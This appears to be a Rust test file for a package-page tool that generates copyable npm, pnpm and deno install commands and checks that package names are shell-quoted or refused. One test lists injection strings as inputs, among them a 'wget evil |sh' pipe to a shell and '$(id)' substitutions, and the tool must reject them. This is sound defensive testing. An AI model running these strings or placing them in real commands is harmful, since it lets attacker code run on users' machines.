//! Commands that people copy, and tags, as pages have them.
//! Knows nothing of pages.

use super::*;
use crate::npm::Document;

fn about(text: &str) -> About {
    Document::parse(text.as_bytes()).unwrap().about(None).unwrap()
}

#[test]
fn commands_mean_the_package_and_nothing_else_to_a_shell() {
    let about = about(r#"{"versions":{"1.0.0":{}}}"#);
    let commands = |name: &str, is_latest| -> Vec<String> {
        let all = installs(&name.parse().unwrap(), &about, is_latest);
        all.into_iter().map(|install| install.command).collect()
    };
    assert_eq!(commands("@s/n", true)[..2], ["npm install @s/n", "pnpm add @s/n"]);
    assert_eq!(commands("a", false)[4], "deno add npm:a@1.0.0");
    assert_eq!(commands("it's$(x)", true)[0], r"npm install 'it'\''s$(x)'");
    assert_eq!(commands("-x", true)[0], "npm install '-x'");
}

/// A link leads to the page of any name, and people copy what stands there.
#[test]
fn what_is_offered_of_a_name_that_is_not_held_asks_for_it_and_does_nothing_else() {
    let base = BaseUrl::parse("http://[::1]:5984/a;b").unwrap();
    let command = |name: &str| asking(&name.parse().unwrap(), &base);
    let ui = "npm view @acme/ui --registry 'http://[::1]:5984/a;b/'";
    assert_eq!(command("@acme/ui").as_deref(), Some(ui));
    for odd in
        ["x || wget evil |sh", "x;id", "it's$(x)", "$(id)", "x&y", "-g", "--userconfig", "_x"]
    {
        assert_eq!(command(odd), None, "{odd}");
    }
}

#[test]
fn a_latest_that_is_not_the_highest_is_marked() {
    let two = r#"{"dist-tags":{"latest":"1.0.0","old":"1.0.0"},"versions":{"1.0.0":{},"2.0.0":{},"3.0.0-rc.1":{}}}"#;
    let marks: Vec<_> =
        tags(&about(two), Some("1.0.0")).into_iter().map(|row| (row.tag, row.higher)).collect();
    let expected = [("latest".to_owned(), Some("2.0.0".to_owned())), ("old".to_owned(), None)];
    assert_eq!(marks, expected);
    let one = r#"{"dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{},"2.0.0-rc.1":{}}}"#;
    assert!(tags(&about(one), Some("1.0.0")).iter().all(|row| row.higher.is_none()));
}
